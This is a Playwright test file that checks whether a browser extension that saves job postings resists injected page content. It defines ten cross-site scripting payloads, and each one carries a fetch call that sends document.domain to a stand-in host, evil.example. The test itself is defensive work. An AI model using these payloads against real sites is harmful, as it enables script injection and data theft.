import { pressShortcut } from '../../scripts/browser/press-shortcut';
import { adPage, adUrl } from './an-ad';
import { expect, test } from './fixtures';

/** Ways to make a reader run what it reads; each would leave a mark and call home. */
const MARK = "top.hacked=1;self.hacked=1;fetch('https://evil.example/'+document.domain)";
const PAYLOADS = [
  `<img src=x onerror="${MARK}">`,
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<svg onload="${MARK}"><animate onbegin="${MARK}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>${MARK}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${MARK}">`,
  `<a href="javascript:${MARK}">apply</a>`,
  `[apply](javascript:${encodeURIComponent(MARK)})`,
  `{{constructor.constructor("${MARK}")()}}`,
  `"><input autofocus onfocus="${MARK}">`,
];

test('Nothing a page says runs in Northing, is fetched, or leads away', async ({ northing }) => {
  test.setTimeout(120_000);
  const alarms: string[] = [];
  northing.launched.context.on('console', (message) => {
    if (/content security policy/i.test(message.text())) alarms.push(message.text());
  });
  northing.launched.context.on('dialog', (dialog) => {
    alarms.push(dialog.message());
    void dialog.dismiss();
  });

  for (const [index, payload] of PAYLOADS.entries()) {
    const id = index + 1;
    const page = await northing.open(
      adUrl(id),
      adPage({
        id,
        title: `Analyst ${payload}`,
        company: `Tidewater ${payload}`,
        city: payload,
        needs: [payload, 'SQL'],
      }),
    );
    await page.waitForTimeout(300);
    await pressShortcut(page, 'Alt+Shift+S');
    await page.waitForTimeout(300);
    await page.close();
  }
  const kept = (await northing.rows('postings')).length;
  expect(kept).toBeGreaterThan(0);
  northing.served.unanswered.length = 0;
  alarms.length = 0;

  const desk = await northing.openOwn('desk.html#/jobs');
  await desk.getByRole('row').nth(kept).waitFor();
  for (const posting of await northing.rows('postings')) {
    await desk.goto(northing.launched.url(`desk.html#/jobs/${String(posting.id)}`));
    await desk.waitForTimeout(150);
    expect(await desk.evaluate(() => 'hacked' in self)).toBe(false);
    expect(
      await desk
        .locator('main img, main iframe, main script, main svg[onload], [href^="javascript:"]')
        .count(),
    ).toBe(0);
  }
  expect(desk.url()).toContain('desk.html');

  const panel = await northing.openOwn('sidepanel.html');
  await panel.waitForTimeout(300);
  expect(await panel.evaluate(() => 'hacked' in self)).toBe(false);
  expect(alarms).toEqual([]);
  expect(northing.served.unanswered).toEqual([]);
});
